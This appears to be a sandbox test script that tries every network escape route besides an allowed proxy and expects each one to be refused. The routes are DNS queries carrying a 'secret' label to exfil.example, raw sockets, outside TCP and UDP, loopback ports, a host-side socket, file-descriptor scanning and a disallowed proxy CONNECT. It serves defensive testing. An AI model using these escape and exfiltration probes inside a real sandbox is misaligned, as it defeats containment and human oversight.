# Attacks: the way out of a run granted network (docs/egress.md). With the proxy on
# 127.0.0.1:3128, tries every other way: DNS over UDP to the sandbox's loopback, to the
# host's resolver and to a public one (exfiltration through queries), the system's name
# lookup, raw and packet sockets, plain UDP and TCP to outside addresses, other loopback
# ports (the server's own port among them), the proxy's host-side socket by path, the
# helper's egress channel (gvisor tier), and a CONNECT through the proxy to a port its
# rule does not allow.
# argv: server port, the egress directory on the host, the allowed host, a port not allowed.
# Expect: every attempt fails; only the proxy's port accepts, and it refuses the CONNECT.
import json, os, socket, sys

server_port, egress_dir, allowed_host, bad_port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
out = {}

def attempt(name, f):
    try:
        out[name] = "ok: " + str(f())
    except Exception as e:  # each refusal's kind, not its text
        out[name] = "refused: " + type(e).__name__

def dns_query(server):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    # A query for <secret>.exfil.example: one A record, recursion desired.
    name = b"".join(bytes([len(p)]) + p for p in [b"c2VjcmV0", b"exfil", b"example"]) + b"\0"
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01", (server, 53))
    return s.recvfrom(512)[1]

for name, server in [("dns_loopback", "127.0.0.1"), ("dns_host", "10.255.255.53"), ("dns_public", "8.8.8.8")]:
    attempt(name, lambda server=server: dns_query(server))
attempt("getaddrinfo", lambda: socket.getaddrinfo("example.com", 443))
attempt("raw_socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet_socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))

def udp_out():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"x", ("1.1.1.1", 443))
    return s.recvfrom(16)

def tcp(host, port):
    s = socket.create_connection((host, port), timeout=2)
    s.close()
    return "connected"

attempt("udp_out", udp_out)
attempt("tcp_out", lambda: tcp("1.1.1.1", 443))
attempt("tcp_host_resolver", lambda: tcp("10.255.255.53", 53))
attempt("loopback_server_port", lambda: tcp("127.0.0.1", int(server_port)))
attempt("loopback_ssh", lambda: tcp("127.0.0.1", 22))
attempt("proxy_port", lambda: tcp("127.0.0.1", 3128))
out["egress_dir_visible"] = os.path.exists(egress_dir)

def unix_socket():
    names = os.listdir(egress_dir)
    s = socket.socket(socket.AF_UNIX)
    s.connect(os.path.join(egress_dir, names[0]))
    return "connected"

attempt("proxy_host_socket", unix_socket)

def egress_channel():
    # In the gvisor tier the helper holds a channel on which the server answers a byte
    # with a connection (SCM_RIGHTS): no descriptor of the program may be that channel.
    answered = []
    for name in os.listdir("/proc/self/fd"):
        try:
            s = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        try:
            s.settimeout(2)
            s.send(b"c")
            _, ancillary, _, _ = s.recvmsg(1, socket.CMSG_SPACE(4))
            if ancillary:
                answered.append(name)
        except OSError:
            pass
        finally:
            s.close()
    if answered:
        return "a descriptor came back on fd " + ",".join(answered)
    raise PermissionError("no descriptor answers")

attempt("egress_channel", egress_channel)

def connect_bad_port():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(f"CONNECT {allowed_host}:{bad_port} HTTP/1.1\r\nHost: {allowed_host}:{bad_port}\r\n\r\n".encode())
    return s.recv(200).decode().split("\r\n")[0]

attempt("connect_bad_port", connect_bad_port)
print(json.dumps(out))
